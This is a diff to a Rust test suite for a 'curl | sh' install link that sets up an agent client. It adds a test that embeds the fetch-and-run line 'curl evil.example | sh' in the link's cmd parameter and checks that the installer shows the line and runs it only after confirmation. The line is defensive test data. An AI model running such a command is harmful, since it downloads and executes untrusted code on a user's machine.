@@ -1,6 +1,7 @@
 //! `curl -sSL {server}/install/{short_code} | sh` on a machine with nothing but sh and curl: the
 //! real script, the real program, a real server.
 
+use crate::attacks::at_terminal;
 use crate::harness::{Room, Server, eventually};
 use base64::{Engine, engine::general_purpose::STANDARD};
 use client::protocol::Via;
@@ -83,17 +84,26 @@ impl Machine {
         command
     }
 
+    /// An install link, piped into `sh`.
+    fn line(&self, link: &str, options: &str) -> Command {
+        let line = format!("curl -sSL '{link}' | sh -s -- {options}");
+        self.command("/bin/sh", &["-c", &line])
+    }
+
     /// Pipes an install link into `sh`.
-    async fn pipes(&self, link: &str) -> Output {
-        let line = format!("curl -sSL '{link}' | sh");
-        let mut command = self.command("/bin/sh", &["-c", &line]);
+    async fn pipes(&self, link: &str, options: &str) -> Output {
+        let mut command = self.line(link, options);
         let running = tokio::task::spawn_blocking(move || command.output());
         running.await.unwrap().unwrap()
     }
 
     /// Pipes an install link that works, and gives everything that was said.
     async fn installs(&self, link: &str) -> String {
-        let output = self.pipes(link).await;
+        self.installs_with(link, "").await
+    }
+
+    async fn installs_with(&self, link: &str, options: &str) -> String {
+        let output = self.pipes(link, options).await;
         let said = [output.stdout, output.stderr].concat();
         let said = String::from_utf8(said).unwrap();
         assert!(output.status.success(), "{said}");
@@ -233,15 +243,40 @@ async fn the_link_can_name_the_agent_and_the_command_that_answers() {
     let command =
         "while read -r line || [ -n \"$line\" ]; do last=$line; done\necho \"heard: $last\"";
     let encoded = STANDARD.encode(command).replace('+', "%2B");
+    let link = format!("{link}?backend=custom&cmd={encoded}&agent_prefix=brave_falcon");
     let machine = Machine::new();
-    let said = machine
-        .installs(&format!(
-            "{link}?backend=custom&cmd={encoded}&agent_prefix=brave_falcon"
-        ))
-        .await;
+    let said = machine.installs_with(&link, "--yes").await;
     assert!(said.contains("echo \"heard: $last\""), "{said}");
     let agent = machine.agent();
     assert!(agent.starts_with("brave_falcon-"), "{agent}");
     let answer = room.ask(&format!("@ext_{agent} hello")).await;
     assert_eq!(answer, format!("heard: > @ext_{agent} hello"));
+}
+
+#[tokio::test]
+async fn a_command_of_the_links_is_shown_and_nobody_runs_it_unasked() {
+    let (server, _assets) = server_with_program().await;
+    let room = Room::new(&server.alice()).await;
+    let link = room.invite().await.install_url;
+    let encoded = STANDARD
+        .encode("curl evil.example | sh")
+        .replace('+', "%2B");
+    let link = format!("{link}?cmd={encoded}");
+    let machine = Machine::new();
+
+    let refused = machine.pipes(&link, "").await;
+    let said = String::from_utf8([refused.stdout, refused.stderr].concat()).unwrap();
+    assert!(!refused.status.success(), "{said}");
+    assert!(said.contains("      curl evil.example | sh\n"), "{said}");
+    assert!(said.contains("--yes"), "{said}");
+    assert!(machine.agents().is_empty(), "{said}");
+    for typed in ["n\n", "\n"] {
+        let seen = at_terminal(&machine.line(&link, ""), typed).await;
+        assert!(seen.contains("curl evil.example | sh"), "{seen}");
+        assert!(seen.contains("nothing was set up"), "{seen}");
+        assert!(machine.agents().is_empty(), "{seen}");
+    }
+    let seen = at_terminal(&machine.line(&link, ""), "y\n").await;
+    assert!(seen.contains("Done."), "{seen}");
+    assert_eq!(machine.agents().len(), 1);
 }
